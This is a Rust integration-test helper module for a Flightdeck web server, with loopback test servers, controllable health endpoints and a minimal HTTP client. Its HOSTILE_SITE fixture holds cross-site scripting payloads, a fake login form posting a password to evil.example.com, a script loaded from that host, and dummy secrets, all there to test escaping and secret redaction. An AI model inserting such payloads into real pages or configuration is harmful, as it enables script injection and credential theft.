//! Shared by the integration tests: a Flightdeck server on a loopback port, product health
//! endpoints that can be taken down, Site manifests and a small blocking HTTP client.
#![allow(dead_code)] // each test crate uses a different part

pub mod chromium;

use flightdeck::health::{HealthChecker, ServiceUrls};
use flightdeck::server::{self, AppState, FeatureOverrides};
use flightdeck::site_source::SiteSource;
use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicU16, AtomicU64, AtomicUsize, Ordering};
use std::time::Duration;
use tokio::runtime::Runtime;

/// A Site manifest with the three products (and a Secret, which the reader skips).
pub fn site_yaml(domain: &str, show_config: bool, show_academy: bool) -> String {
    format!(
        r#"apiVersion: v1
kind: Secret
metadata:
  name: site-secrets
  namespace: posit-team
stringData:
  main-database-url: postgres://postgres:admin-password@db.example.com/postgres
---
apiVersion: core.posit.team/v1beta1
kind: Site
metadata:
  name: main
  namespace: posit-team
spec:
  domain: {domain}
  flightdeck:
    featureEnabler:
      showConfig: {show_config}
      showAcademy: {show_academy}
  connect:
    image: posit/connect:2026.08.0
  workbench:
    image: posit/workbench:2026.08.1
  packageManager:
    image: posit/package-manager:2026.08.0
"#
    )
}

/// A Site whose strings try to inject markup and script, with secrets that must not show.
pub const HOSTILE_SITE: &str = r#"apiVersion: core.posit.team/v1beta1
kind: Site
metadata:
  name: main
  namespace: posit-team
spec:
  domain: posit.example.com
  flightdeck:
    featureEnabler:
      showConfig: true
  connect:
    image: "posit/connect:<script>alert('image')</script>"
    loggedInWarning: "<script>document.title='pwned'</script>"
    publicWarning: "\"><img src=x onerror=\"document.title='pwned'\">"
    license:
      type: KEY
      key: LICENSE-KEY-SECRET-1234
    addEnv:
      DB_PASSWORD: hunter2-secret-value
      CONNECT_DATABASE: "postgres://connect:pg-secret-pw@db.example.com/connect"
      "<b>bold</b>": "</code></pre><script>alert('env')</script>"
      PROXY: "https://user:proxy-secret-pw@proxy.example.com:3128"
    experimentalFeatures:
      sessionEnvVars:
        - name: API_TOKEN
          value: tok-secret-999
        - name: GREETING
          value: "<i>hello</i>"
  workbench:
    authLoginPageHtml: "<form action=https://evil.example.com><input name=p></form><script src=//evil.example.com/x.js></script>"
    snowflake:
      accountId: acct
      clientId: "'; alert(1); '"
"#;

/// Writes `yaml` to a scratch file.
pub fn site_file(yaml: &str) -> PathBuf {
    let path = test_support::scratch_dir("flightdeck-site").join("site.yaml");
    std::fs::write(&path, yaml).expect("site file can be written");
    path
}

/// A loopback address that refuses connections (port 1 has no listener on a test machine).
pub const CLOSED_PORT_URL: &str = "http://127.0.0.1:1";

/// How to start a [`TestServer`].
#[derive(Debug, Clone)]
pub struct Options {
    pub site_yaml: String,
    pub features: FeatureOverrides,
    pub service_urls: ServiceUrls,
    pub cache_for: Duration,
    pub timeout: Duration,
    pub academy_url: Option<String>,
}

impl Options {
    /// Health checks go to a loopback port nothing listens on (products down), never to
    /// the cluster names, which a test machine would try to resolve.
    pub fn new(site_yaml: String) -> Self {
        Self {
            site_yaml,
            features: FeatureOverrides::default(),
            service_urls: [
                flightdeck::products::Product::Workbench,
                flightdeck::products::Product::Connect,
                flightdeck::products::Product::PackageManager,
            ]
            .into_iter()
            .map(|product| (product, CLOSED_PORT_URL.to_string()))
            .collect(),
            cache_for: Duration::from_secs(1),
            timeout: Duration::from_millis(500),
            academy_url: None,
        }
    }

    /// Every product's health endpoint served by `health`.
    pub fn with_health(mut self, health: &HealthServer) -> Self {
        for product in [
            flightdeck::products::Product::Workbench,
            flightdeck::products::Product::Connect,
            flightdeck::products::Product::PackageManager,
        ] {
            self.service_urls.insert(product, health.base_url());
        }
        self
    }
}

/// Flightdeck serving on a loopback port, on its own runtime, until dropped.
pub struct TestServer {
    pub addr: SocketAddr,
    runtime: Option<Runtime>,
}

impl TestServer {
    pub fn start(options: Options) -> Self {
        Self::start_with(options, |file| {
            SiteSource::from_file(&file, None, None).expect("test site is valid")
        })
    }

    /// Starts with the Site source `make_source` builds from the written site file.
    pub fn start_with(options: Options, make_source: impl FnOnce(PathBuf) -> SiteSource) -> Self {
        let runtime = runtime();
        let source = runtime.block_on(async { make_source(site_file(&options.site_yaml)) });
        let identity = source.identity();
        let health = HealthChecker::new(
            flightdeck::health::endpoints(&identity, &options.service_urls),
            options.cache_for,
            options.timeout,
        );
        let state = AppState::new(source, options.features, health, options.academy_url);
        let listener = runtime
            .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
            .expect("loopback port");
        let addr = listener.local_addr().expect("bound address");
        runtime.spawn(server::serve(listener, state, std::future::pending()));
        Self {
            addr,
            runtime: Some(runtime),
        }
    }

    pub fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.addr)
    }

    pub fn get(&self, path: &str) -> Response {
        http_get(self.addr, path, &[])
    }

    /// Stops serving: open connections are closed and the port refuses new ones.
    pub fn stop(&mut self) {
        if let Some(runtime) = self.runtime.take() {
            runtime.shutdown_timeout(Duration::from_secs(2));
        }
    }
}

impl Drop for TestServer {
    fn drop(&mut self) {
        self.stop();
    }
}

fn runtime() -> Runtime {
    tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .expect("tokio runtime")
}

/// Product health endpoints (`/__ping__` and `/health-check`) whose answer the test
/// controls: a status code, a delay, or no server at all.
pub struct HealthServer {
    addr: SocketAddr,
    behaviour: Arc<Behaviour>,
    runtime: Option<Runtime>,
}

#[derive(Default)]
struct Behaviour {
    status: AtomicU16,
    delay_ms: AtomicU64,
    requests: AtomicUsize,
}

impl HealthServer {
    /// Starts answering 200.
    pub fn start() -> Self {
        let behaviour = Arc::new(Behaviour::default());
        behaviour.status.store(200, Ordering::SeqCst);
        let (runtime, addr) =
            Self::serve("127.0.0.1:0".parse().expect("address"), behaviour.clone());
        Self {
            addr,
            behaviour,
            runtime: Some(runtime),
        }
    }

    fn serve(addr: SocketAddr, behaviour: Arc<Behaviour>) -> (Runtime, SocketAddr) {
        use axum::http::StatusCode;
        let runtime = runtime();
        let listener = runtime
            .block_on(tokio::net::TcpListener::bind(addr))
            .expect("health server port");
        let addr = listener.local_addr().expect("bound address");
        let handler = move |uri: axum::http::Uri| {
            let behaviour = behaviour.clone();
            async move {
                if !matches!(uri.path(), "/__ping__" | "/health-check") {
                    return StatusCode::NOT_FOUND;
                }
                behaviour.requests.fetch_add(1, Ordering::SeqCst);
                let delay = behaviour.delay_ms.load(Ordering::SeqCst);
                if delay > 0 {
                    tokio::time::sleep(Duration::from_millis(delay)).await;
                }
                StatusCode::from_u16(behaviour.status.load(Ordering::SeqCst))
                    .unwrap_or(StatusCode::OK)
            }
        };
        let app = axum::Router::new().fallback(handler);
        runtime.spawn(async move { axum::serve(listener, app).await });
        (runtime, addr)
    }

    pub fn base_url(&self) -> String {
        format!("http://{}", self.addr)
    }

    pub fn set_status(&self, status: u16) {
        self.behaviour.status.store(status, Ordering::SeqCst);
    }

    pub fn set_delay(&self, delay: Duration) {
        self.behaviour
            .delay_ms
            .store(delay.as_millis() as u64, Ordering::SeqCst);
    }

    /// Health requests answered so far.
    pub fn requests(&self) -> usize {
        self.behaviour.requests.load(Ordering::SeqCst)
    }

    /// Takes the endpoint down: connections are closed and the port refuses new ones.
    pub fn stop(&mut self) {
        if let Some(runtime) = self.runtime.take() {
            runtime.shutdown_timeout(Duration::from_secs(2));
        }
    }

    /// Brings the endpoint back on the same port.
    pub fn restart(&mut self) {
        self.stop();
        let (runtime, _) = Self::serve(self.addr, self.behaviour.clone());
        self.runtime = Some(runtime);
    }
}

impl Drop for HealthServer {
    fn drop(&mut self) {
        self.stop();
    }
}

/// A response read by [`http_get`].
#[derive(Debug)]
pub struct Response {
    pub status: u16,
    /// Lowercased names.
    pub headers: BTreeMap<String, String>,
    pub body: Vec<u8>,
}

impl Response {
    pub fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }

    pub fn header(&self, name: &str) -> &str {
        self.headers.get(name).map(String::as_str).unwrap_or("")
    }
}

/// `GET path` over a fresh connection (HTTP/1.1, `Connection: close`).
pub fn http_get(addr: SocketAddr, path: &str, headers: &[(&str, &str)]) -> Response {
    request(addr, "GET", path, headers)
}

/// Any method, for the 405 and HEAD checks.
pub fn request(addr: SocketAddr, method: &str, path: &str, headers: &[(&str, &str)]) -> Response {
    let mut stream = TcpStream::connect(addr).expect("connect to server");
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .expect("read timeout");
    let mut head = format!("{method} {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n");
    for (name, value) in headers {
        head.push_str(&format!("{name}: {value}\r\n"));
    }
    head.push_str("\r\n");
    stream.write_all(head.as_bytes()).expect("send request");
    let mut raw = Vec::new();
    stream.read_to_end(&mut raw).expect("read response");
    parse_response(&raw, method == "HEAD")
}

fn parse_response(raw: &[u8], head_only: bool) -> Response {
    let split = raw
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .expect("response has a header block");
    let head = String::from_utf8_lossy(&raw[..split]);
    let mut lines = head.lines();
    let status = lines
        .next()
        .and_then(|line| line.split_whitespace().nth(1))
        .and_then(|code| code.parse().ok())
        .expect("status line");
    let headers: BTreeMap<String, String> = lines
        .filter_map(|line| line.split_once(':'))
        .map(|(name, value)| (name.trim().to_ascii_lowercase(), value.trim().to_string()))
        .collect();
    let body = raw[split + 4..].to_vec();
    if !head_only && let Some(length) = headers.get("content-length") {
        assert_eq!(
            body.len(),
            length.parse::<usize>().expect("length"),
            "complete body"
        );
    }
    Response {
        status,
        headers,
        body,
    }
}

/// Polls `condition` every 100 ms for up to `timeout`.
pub fn eventually(timeout: Duration, mut condition: impl FnMut() -> bool) -> bool {
    let deadline = std::time::Instant::now() + timeout;
    loop {
        if condition() {
            return true;
        }
        if std::time::Instant::now() >= deadline {
            return false;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}
